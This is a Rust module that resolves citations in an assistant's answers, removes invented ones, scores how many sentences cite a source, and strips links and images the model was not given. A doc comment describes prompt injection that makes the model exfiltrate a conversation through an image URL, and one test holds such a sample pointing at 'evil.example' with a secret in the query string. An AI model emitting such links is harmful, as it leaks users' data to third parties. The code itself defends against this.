//! Citations: the text of a model as it may be shown, and the sources that it names.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::{Captures, Regex};

use super::sources::{Citation, Inner, WebCitation};

/// An answer with its citations resolved.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Cited {
    /// The text.
    pub text: String,
    /// The items it names, by number.
    pub items: Vec<Citation>,
    /// The pages it names, by number.
    pub web: Vec<WebCitation>,
}

impl Cited {
    /// How well an answer is founded: the share of its sentences that name a source.
    pub fn confidence(&self) -> f64 {
        let sentences: Vec<&str> = SENTENCE
            .find_iter(&self.text)
            .map(|sentence| sentence.as_str())
            .filter(|sentence| sentence.split_whitespace().count() > 2)
            .collect();
        let founded = sentences.iter().filter(|sentence| MARK.is_match(sentence));
        let share = founded.count() as f64 / sentences.len().max(1) as f64;
        (share * 100.0).round() / 100.0
    }
}

/// Resolves what a text cites. Citations of what is not there are taken out, and so are images and
/// links that the model was not given: with those, text in an image could make it carry a
/// conversation to somebody else's server.
pub(super) fn resolve(sources: &Inner, text: &str) -> Cited {
    let text = IMAGE.replace_all(text, "$1");
    let text = LINK.replace_all(&text, |found: &Captures<'_>| {
        let link = trimmed(&found[0]);
        match sources.has_given(link) {
            true => found[0].to_owned(),
            false => format!("(link removed){}", &found[0][link.len()..]),
        }
    });
    let mut named = Named {
        sources,
        items: BTreeSet::new(),
        web: BTreeSet::new(),
    };
    let text = MARK.replace_all(&text, |found: &Captures<'_>| named.mark(&found[0]));
    Cited {
        text: text.trim().to_owned(),
        items: (named.items.iter().filter_map(|n| sources.citation(*n))).collect(),
        web: (named.web.iter().filter_map(|n| sources.web_citation(*n))).collect(),
    }
}

/// The sources that a text has named so far.
struct Named<'s> {
    sources: &'s Inner,
    items: BTreeSet<usize>,
    web: BTreeSet<usize>,
}

impl Named<'_> {
    /// A citation as it is shown: each known source in brackets of its own.
    fn mark(&mut self, text: &str) -> String {
        let mut is_web = false;
        let mut known = Vec::new();
        for named in NUMBER.captures_iter(text) {
            // A kind holds for the numbers that follow it: `[Items 1, 2]`.
            if let Some(kind) = named.get(1) {
                is_web = kind.as_str().eq_ignore_ascii_case("web");
            }
            let Ok(number) = named[2].parse() else {
                continue;
            };
            if is_web && self.sources.web_citation(number).is_some() {
                self.web.insert(number);
                known.push(format!("[Web {number}]"));
            } else if !is_web && self.sources.citation(number).is_some() {
                self.items.insert(number);
                known.push(format!("[Item {number}]"));
            }
        }
        known.join(" ")
    }
}

/// The links in a text.
pub(super) fn links(text: &str) -> impl Iterator<Item = String> {
    let links = LINK.find_iter(text);
    links.map(|link| trimmed(link.as_str()).to_owned())
}

/// A link without the signs of the sentence around it.
fn trimmed(link: &str) -> &str {
    link.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_'])
}

/// `[Item 3]`, `[Items 1, 2]`, `[Item 1, Item 2]`, and the same of `Web`.
static MARK: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?i)\[(?:item|web)s?(?:(?:[\s,&]|and|items?|web)*\d{1,6})+\]"));
static NUMBER: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)(item|web)?s?\s*(\d+)"));
static LINK: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"(?i)\b[a-z][a-z0-9+.-]{1,20}://[^\s<>"'`)\]]+"#));
static IMAGE: LazyLock<Regex> = LazyLock::new(|| regex(r"!\[([^\]]*)\]\([^)]*\)"));
static SENTENCE: LazyLock<Regex> =
    LazyLock::new(|| regex(r"[^.!?\n]+(?:[.!?]+|\n|$)(?:\s*\[[^\]]*\]\.?)*"));

#[allow(
    clippy::expect_used,
    reason = "the patterns above are constants, and tested"
)]
fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("a pattern of this file")
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use crate::retrieval::sources::{Sources, WebCitation};
    use crate::retrieval::{Hit, ScoreType};

    fn hit(id: &str) -> Hit {
        Hit {
            item_id: id.parse().unwrap_or_else(|_| panic!("{id}")),
            score: 1.0,
            category: None,
            headline: Some(format!("about {id}")),
            summary: None,
            thumbnail_path: None,
            metadata: Value::Null,
        }
    }

    fn numbers(sources: &Sources, text: &str) -> (String, Vec<usize>) {
        let cited = sources.resolve(text);
        let numbers = cited.items.iter().map(|citation| citation.number);
        (cited.text.clone(), numbers.collect())
    }

    #[test]
    fn citations_are_resolved_however_they_are_written_and_invented_ones_go() {
        let sources = Sources::default();
        assert_eq!(
            sources.add(&[hit("a"), hit("b")], ScoreType::Bm25, None),
            [1, 2]
        );
        assert_eq!(
            sources.add(&[hit("c"), hit("a")], ScoreType::Bm25, None),
            [3, 1]
        );
        for (text, expected, items) in [
            ("Boats [Item 1].", "Boats [Item 1].", vec![1]),
            (
                "[items 1, 2 and 3]",
                "[Item 1] [Item 2] [Item 3]",
                vec![1, 2, 3],
            ),
            ("[Item 1, Item 9]", "[Item 1]", vec![1]),
            ("[Item 2, Web 2]", "[Item 2]", vec![2]),
            ("Invented [Item 99].", "Invented .", vec![]),
            ("No [thing] at all", "No [thing] at all", vec![]),
        ] {
            assert_eq!(
                numbers(&sources, text),
                (expected.to_owned(), items),
                "{text}"
            );
        }
    }

    #[test]
    fn a_number_means_the_same_item_in_every_turn() {
        let first = Sources::default();
        first.add(&[hit("a"), hit("b")], ScoreType::Bm25, None);
        let second = Sources::continued(first.numbered(), Vec::new());
        assert_eq!(
            second.add(&[hit("c"), hit("b")], ScoreType::Bm25, None),
            [3, 2]
        );
        assert_eq!(numbers(&second, "[Item 1] and [Item 3]").1, [1, 3]);
    }

    #[test]
    fn links_that_were_not_given_are_taken_out() {
        let page = WebCitation {
            number: 1,
            title: "T".to_owned(),
            url: "https://example.org/a".to_owned(),
        };
        let sources = Sources::continued(Vec::new(), vec![page]);
        sources.note("a poster that says http://poster.example/x, and more");
        let text = "See https://example.org/a, http://poster.example/x and \
                    ![p](https://evil.example/?secret=1) or https://evil.example/?secret=2.";
        let shown = sources.resolve(text).text;
        assert!(
            shown.contains("https://example.org/a,") && shown.contains("http://poster.example/x")
        );
        assert!(!shown.contains("evil.example"), "{shown}");
        assert_eq!(sources.resolve("said there [Web 1] [Web 2]").web.len(), 1);
    }

    #[test]
    fn confidence_is_the_share_of_sentences_that_name_a_source() {
        let sources = Sources::default();
        sources.add(&[hit("a")], ScoreType::Bm25, None);
        for (text, confidence) in [
            ("A boat on a lake [Item 1].", 1.0),
            ("A boat on a lake. [Item 1]", 1.0),
            ("A boat on a lake [Item 1]. And much that nobody said.", 0.5),
            ("All of this is invented.", 0.0),
            ("", 0.0),
        ] {
            let found = sources.resolve(text).confidence();
            assert!((found - confidence).abs() < 0.01, "{text}: {found}");
        }
    }
}
